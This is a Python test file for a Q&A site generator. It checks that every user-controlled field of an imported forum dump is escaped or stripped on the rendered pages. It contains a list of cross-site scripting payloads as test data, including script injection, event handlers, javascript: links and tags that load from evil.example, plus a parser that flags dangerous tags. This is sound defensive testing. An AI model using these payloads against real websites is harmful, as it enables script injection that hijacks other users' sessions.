"""What users write is shown, and never acts: in every field that they control."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from xml.sax.saxutils import quoteattr

import pytest

from examples.qa import __main__ as command
from examples.qa.html import Html, clean, markup, remark, web_address

from .conftest import TINY, WriteDump, xml_of
from .qa_browser import serving

# What one text field holds in the hostile dump: all that could break out of a text, an attribute or a template.
HOSTILE = (
    """</title></textarea>"'><script>alert('{0}')</script><img src=x onerror=alert(1)><a href="javascript:x">{{}} {0}"""
)

# What the HTML fields hold besides.
VECTORS = """
<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)><img src="javascript:alert(1)"><svg onload=alert(1)><svg><script>alert(1)</script></svg>
<a href="javascript:alert(1)">a</a><a href=" java&#x09;script:alert(1)">b</a><a href="data:text/html,<script>1</script>">c</a>
<a href="//evil.example/" onclick="alert(1)" style="position:fixed;inset:0">d</a><p onmouseover=alert(1)>e</p>
<iframe src="//evil.example"></iframe><object data=x></object><embed src=x><base href="//evil.example/">
<form action="//evil.example"><input name=user><button formaction="javascript:alert(1)">f</button></form>
<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>
<img alt="<script>alert(1)</script>" src='x" onerror="alert(1)'><img src=`x` alt='"><script>alert(1)</script>'>
</div></article></main><p id="p1" class="top">g</p><!-- <script>alert(1)</script> -->
"""

FIELDS = {
    "title": ("Posts", 'Title="How does it loop?"', "Title={}"),
    "tag": ("Posts", 'Tags="&lt;loops&gt;&lt;engines&gt;"', "Tags={}"),
    "gone": ("Posts", 'OwnerDisplayName="user22"', "OwnerDisplayName={}"),
    "day": ("Posts", 'CreationDate="2011-08-17T20:18:56.507"', "CreationDate={}"),
    "name": ("Users", 'DisplayName="Ada Lovelace"', "DisplayName={}"),
    "place": ("Users", 'Location="London"', "Location={}"),
    "comment": ("Comments", 'Text="Which one?"', "Text={}"),
    "commenter": ("Comments", 'UserDisplayName="user9"', "UserDisplayName={}"),
    "badge": ("Badges", 'Name="Teacher"', "Name={}"),
    "body": ("Posts", 'Body="&lt;p&gt;How?&lt;/p&gt;"', "Body={}"),
    "reply": ("Posts", 'Body="Slowly."', "Body={}"),
    "bio": ("Users", 'AboutMe="&lt;p&gt;I write notes.&lt;/p&gt;"', "AboutMe={}"),
}
HTML_FIELDS = ("body", "reply", "bio")
SPLIT = ("tag", "day")  # a tag list is split at < and >, and of a moment only the day is shown


def hostile_dump() -> dict[str, str]:
    """The tiny dump with something hostile in every field that users control."""
    files = dict(TINY)
    for field, (name, before, after) in FIELDS.items():
        text = HOSTILE.format(field) + (VECTORS if field in HTML_FIELDS else "")
        assert before in files[name]
        files[name] = files[name].replace(before, after.format(quoteattr(text)))
    files["Users"] = files["Users"].replace("https://ada.example/", "javascript:alert('website')")
    return {name: xml_of(name, rows) for name, rows in files.items()}


OUR_TAGS = [
    "html",
    "head",
    "meta",
    "title",
    "link",
    "body",
    "header",
    "div",
    "nav",
    "a",
    "form",
    "button",
    "main",
    "footer",
    "h1",
    "h2",
    "h3",
    "article",
    "section",
    "aside",
    "details",
    "summary",
    "p",
    "ul",
    "li",
    "b",
    "span",
    "time",
    "svg",
    "rect",
    "text",
    "input",
    "textarea",
    "label",
    "small",
]
BODY_TAGS = [
    "table",
    "tbody",
    "tr",
    "td",
    "th",
    "thead",
    "strong",
    "em",
    "i",
    "u",
    "s",
    "code",
    "pre",
    "blockquote",
    "ol",
    "dl",
    "dt",
    "dd",
    "hr",
    "br",
    "sub",
    "sup",
    "kbd",
]
OUR_ATTRIBUTES = [
    "href",
    "class",
    "id",
    "name",
    "value",
    "type",
    "method",
    "action",
    "title",
    "datetime",
    "width",
    "height",
    "viewbox",
    "rx",
    "fill",
    "x",
    "y",
    "text-anchor",
    "font-size",
    "aria-label",
    "aria-hidden",
    "aria-pressed",
    "rows",
    "maxlength",
    "required",
    "rel",
    "open",
    "charset",
    "content",
    "lang",
    "inputmode",
    "pattern",
]
SCHEMES = {"", "http", "https", "mailto"}
FORMS = {"/login", "/logout", "/vote", "/follow", "/comment"}


class Reader(HTMLParser):
    """Reads a page as a browser does, and notes what could act."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in OUR_TAGS and tag not in BODY_TAGS:
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            if name not in OUR_ATTRIBUTES:
                self.dangers.append(f"<{tag} {name}=...>")
            if not harmless(name, value or ""):
                self.dangers.append(f"{name}={value!r}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def harmless(name: str, value: str) -> bool:
    """A link that opens a page, the site's own empty icon, or one of the site's own forms."""
    if name == "href":
        scheme, colon, _ = re.sub(r"[\x00-\x20]", "", value).partition(":")  # as browsers read it
        return value == "data:," or (scheme.lower() if colon else "") in SCHEMES
    return name != "action" or value in FORMS


@pytest.mark.parametrize("user", [None, 3])
async def test_what_users_wrote_never_acts(write_dump: WriteDump, tmp_path: Path, user: int | None) -> None:
    """Each field is shown on some page, and on no page does any of them become a tag, a handler or a script."""
    site = tmp_path / "site.db"
    assert command.main(["import", "--data", str(write_dump(**hostile_dump())), "--to", f"sqlite:{site}"]) == 0
    words = ""
    async with serving(site) as browser:
        if user:
            await browser.sign_in(user)
            await browser.send("/comment", post=1, text=HOSTILE.format("posted"))
            words += "posted "
        for path in ("/", "/q/1", "/u/2", "/login"):
            reader = Reader(await browser.text(path))
            assert reader.dangers == []
            words += " ".join(reader.words)
    shown = [*FIELDS, "posted"] if user else list(FIELDS)
    assert [
        field for field in shown if field not in SPLIT and f"alert('{field}')" not in words and field not in HTML_FIELDS
    ] == []
    assert [field for field in HTML_FIELDS if f"{{}} {field}" not in words] == []


def test_the_reader_sees_dangers() -> None:
    """The check above would find what it looks for."""
    page = '<script>x</script><p onclick="x"><a href="javascript:x"><img src=x><iframe>'
    assert Reader(page).dangers == [
        "<script>",
        "<p onclick=...>",
        "href='javascript:x'",
        "<img>",
        "<img src=...>",
        "<iframe>",
    ]


def test_only_html_goes_unescaped() -> None:
    """A template escapes every text; a text that holds braces is no template."""
    assert markup("<b>{a}{b}</b>", a="<{b}>", b=Html("<i>")) == "<b>&lt;{b}&gt;<i></b>"


def test_images_become_links() -> None:
    """A page fetches nothing from strangers: an image is a link to it, under its description."""
    link = '<a href="https://i.example/x.png" rel="noopener noreferrer">[image: a <b>cat</b>]</a>'
    assert clean('<p>See <img src="https://i.example/x.png" alt="a <b>cat</b>">').startswith("<p>See <a href=")
    assert clean("<img src='https://i.example/x.png' alt='a cat'>") == link.replace("<b>", "").replace("</b>", "")
    assert clean("<img>") == '<a href="" rel="noopener noreferrer">[image: no description]</a>'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a < b & c", "a &lt; b &amp; c"),
        ("[x](https://a.example)", '<a href="https://a.example" rel="nofollow noopener">x</a>'),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ('[x](https://a.example/"onclick=alert(1))', None),
        (
            "[`<b>`](https://a.example)",
            '<a href="https://a.example" rel="nofollow noopener"><code>&lt;b&gt;</code></a>',
        ),
        ("`[x](https://a.example)`", None),
        ("[x](https://a.example/`) and `", None),
    ],
)
def test_a_remark_has_links_and_code_and_nothing_else(text: str, expected: str | None) -> None:
    """Of a comment's Markdown links and code are shown; whatever stands in them, the result is whole and harmless."""
    made = remark(text)
    assert expected is None or made == expected
    assert Reader(made).dangers == []


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("https://ada.example/", True),
        ("HTTP://ada.example/", True),
        ("javascript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.example/", False),
        ("ada.example", False),
    ],
)
def test_a_website_is_a_web_address_or_nothing(text: str, safe: bool) -> None:
    """The website of a profile leads to a web page, or is not shown."""
    assert web_address(text) == (text if safe else "")
